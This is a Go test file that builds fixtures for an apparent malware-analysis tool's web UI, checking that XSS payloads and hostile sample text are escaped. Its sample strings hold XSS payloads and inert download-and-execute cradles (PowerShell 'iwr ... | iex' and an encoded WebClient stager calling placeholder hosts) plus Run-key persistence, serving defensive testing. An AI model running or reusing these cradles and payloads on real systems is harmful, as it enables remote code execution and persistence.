package ui_test

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/automaldesc/automaldesc/analysis"
	"github.com/automaldesc/automaldesc/analysis/explain"
	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/verdict/builtin"
	"github.com/automaldesc/automaldesc/rules"
	"github.com/automaldesc/automaldesc/sidecar"
	"github.com/automaldesc/automaldesc/sidecar/api"
	"github.com/automaldesc/automaldesc/store"
	"github.com/automaldesc/automaldesc/store/sqlite"
)

// The payloads of the hostile sample. Each sets window.__pwned (or opens a
// dialog) if a page ever executes it.
const (
	payloadScript = `<script>alert(1)</script>`
	payloadImg    = `<img src=x onerror=alert(1)>`
	payloadJSURL  = `javascript:alert(1)`
	hostileName   = `invoice<script>alert(1)</script><img src=x onerror=alert(1)>.js`
)

// hostileJS is an inert JScript-looking sample whose text, decoded layer,
// IOCs and excerpts carry the payloads.
var hostileJS = "// " + payloadScript + "\n" +
	"var u = \"" + payloadJSURL + "\";\n" +
	"var shell = new ActiveXObject(\"WScript.Shell\");\n" +
	"document.write('<script>window.__pwned=1;alert(1)</script>" + payloadImg + "');\n" +
	"var s = atob(\"" + base64.StdEncoding.EncodeToString([]byte(`<img src=x onerror="window.__pwned=2;alert(1)"><script>window.__pwned=3</script> http://198.51.100.7/<script>alert(1)</script>`)) + "\");\n" +
	"eval(s);\n" +
	"shell.Run(\"powershell -w hidden -c iwr http://update.example.invalid/a.ps1 | iex\");\n" +
	"var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); x.open(\"GET\", \"http://203.0.113.50/<img src=x onerror=alert(1)>\", false);\n"

// cradlePS is an inert PowerShell sample with an -EncodedCommand layer.
func cradlePS() string {
	inner := "$wc = New-Object Net.WebClient\n" +
		"$wc.Headers.Add('User-Agent', 'Mozilla/5.0')\n" +
		"IEX $wc.DownloadString('http://198.51.100.23/stage2.ps1')\n" +
		"Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value 'powershell -w hidden -File C:\\Users\\Public\\u.ps1'\n"
	u := utf16.Encode([]rune(inner))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return "# quarterly report helper\n" +
		"$ErrorActionPreference = 'SilentlyContinue'\n" +
		"Set-PSReadlineOption -HistorySaveStyle SaveNothing\n" +
		"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + base64.StdEncoding.EncodeToString(b) + "\n" +
		"Start-Sleep -Seconds 5\n"
}

var engine = sync.OnceValues(func() (*analysis.Engine, error) {
	live, err := rules.NewLive()
	if err != nil {
		return nil, err
	}
	model, err := builtin.Model()
	if err != nil {
		return nil, err
	}
	cat := indicators.Default()
	return analysis.New(analysis.Options{
		Version: "test",
		Limits: analysis.Limits{MaxFileSize: 1 << 20, SampleTimeout: 10 * time.Second, DecodeDepth: 8, DecodeRatio: 16,
			DecodeBytes: 64 << 20, MaxLayers: 64},
		Rules: live, Catalog: cat, Explainer: explain.NewOffline(cat), Model: model, TopK: 8,
	})
})

// fixture is the store the tests share the shape of: real reports for the
// PowerShell cradle and the hostile sample, plus hand-made records.
type fixture struct {
	st      *sqlite.Store
	cradle  store.Record
	hostile store.Record
	all     []store.Record // in Seq order
}

// analyse runs the real engine and stores the record; mutate may change
// the report first (to simulate LLM output or user rules).
func analyse(t testing.TB, st store.Store, data, name, source string, mutate func(*analysis.Report)) store.Record {
	t.Helper()
	eng, err := engine()
	if err != nil {
		t.Fatalf("engine: %v", err)
	}
	rep, err := eng.Analyze(context.Background(), analysis.Sample{Data: []byte(data), Name: name, Source: source})
	if err != nil {
		t.Fatalf("analyse %s: %v", name, err)
	}
	if mutate != nil {
		mutate(rep)
	}
	rec, err := sidecar.NewRecord(rep, "", source, "")
	if err != nil {
		t.Fatal(err)
	}
	rec, err = st.PutRecord(context.Background(), rec)
	if err != nil {
		t.Fatal(err)
	}
	return rec
}

func newFixture(t testing.TB) *fixture {
	t.Helper()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "records.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	f := &fixture{st: st}
	put := func(rec store.Record) store.Record {
		t.Helper()
		rec, err := st.PutRecord(context.Background(), rec)
		if err != nil {
			t.Fatal(err)
		}
		f.all = append(f.all, rec)
		return rec
	}
	// Hand-made records: languages, labels, sources and times to filter on.
	now := time.Now().UTC()
	hand := []struct {
		label, lang, source, status string
		age                         time.Duration
	}{
		{"benign", "bash", "watch:/srv/q", "ok", 40 * 24 * time.Hour},
		{"benign", "python", "watch:/srv/q", "ok", 10 * 24 * time.Hour},
		{"suspicious", "batch", "clamav", "ok", 3 * 24 * time.Hour},
		{"unknown", "unknown", "clamav", "skipped", 2 * time.Hour},
		{"benign", "vbscript", "api", "ok", 30 * time.Minute},
	}
	for i, h := range hand {
		sha := fmt.Sprintf("%064x", i+1)
		rep := fmt.Sprintf(`{"schema_version":"1.0.0","id":"hand-%d","sample":{"sha256":"%s","name":"tool-%d.txt","size":12},"status":%q,`+
			`"verdict":{"label":%q,"score":0.1,"source":"model"},"explanation":{"summary":"Hand-made record %d.","source":"offline"},`+
			`"iocs":[{"type":"domain","value":"hand%d.example","defanged":"hand%d[.]example","layer":0,"offset":0}]}`,
			i, sha, i, h.status, h.label, i, i, i)
		put(store.Record{ID: fmt.Sprintf("hand-%d", i), SHA256: sha, Name: fmt.Sprintf("tool-%d.txt", i), Source: h.source,
			Status: h.status, Label: h.label, Language: h.lang, Score: 0.1, CreatedAt: now.Add(-h.age), Report: []byte(rep)})
	}
	f.cradle = analyse(t, st, cradlePS(), "quarterly-report.ps1", "watch:/srv/quarantine", nil)
	f.all = append(f.all, f.cradle)
	f.hostile = analyse(t, st, hostileJS, hostileName, "api", func(r *analysis.Report) {
		// What an LLM or a user rule could say: attacker text everywhere.
		r.Explanation.Summary = "The script writes " + payloadScript + " and " + payloadImg + " and sets " + payloadJSURL + "."
		r.Explanation.Claims = append(r.Explanation.Claims, analysis.Claim{Text: "Claim " + payloadImg, Evidence: []string{"ioc:" + payloadJSURL, payloadScript}})
		r.Verdict.Contributions = append(r.Verdict.Contributions, analysis.Contribution{Feature: "tok:" + payloadScript,
			Value: 1, Weight: 0.5, Contribution: 0.5, Evidence: []string{payloadImg}, Detail: payloadJSURL})
		r.Techniques = append(r.Techniques, analysis.Technique{ID: payloadJSURL, Name: payloadScript, Evidence: []string{payloadImg}})
		r.Language.Evidence = append(r.Language.Evidence, payloadImg)
	})
	f.all = append(f.all, f.hostile)
	return f
}

// newServer serves the API (with the UI mounted) over the fixture's store.
func newServer(t testing.TB, st store.Store, token string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(api.Handler(api.Options{Store: st, Token: token}))
	t.Cleanup(srv.Close)
	return srv
}

// client is a browser-like HTTP client: it keeps cookies and does not
// follow redirects.
type client struct {
	t   testing.TB
	srv *httptest.Server
	c   *http.Client
}

func newClient(t testing.TB, srv *httptest.Server) *client {
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	return &client{t: t, srv: srv, c: &http.Client{Jar: jar, Timeout: 10 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

type response struct {
	status int
	header http.Header
	body   string
}

func (c *client) do(req *http.Request) response {
	c.t.Helper()
	resp, err := c.c.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		c.t.Fatal(err)
	}
	return response{status: resp.StatusCode, header: resp.Header, body: string(b)}
}

func (c *client) get(path string) response {
	c.t.Helper()
	req, err := http.NewRequest(http.MethodGet, c.srv.URL+path, nil)
	if err != nil {
		c.t.Fatal(err)
	}
	return c.do(req)
}

// post sends a form; hdr adds headers (e.g. Origin, Sec-Fetch-Site).
func (c *client) post(path string, form url.Values, hdr map[string]string) response {
	c.t.Helper()
	req, err := http.NewRequest(http.MethodPost, c.srv.URL+path, strings.NewReader(form.Encode()))
	if err != nil {
		c.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	return c.do(req)
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// csrf returns the CSRF token of a rendered page.
func csrf(t testing.TB, body string) string {
	t.Helper()
	m := csrfRE.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no CSRF field in the page")
	}
	return m[1]
}
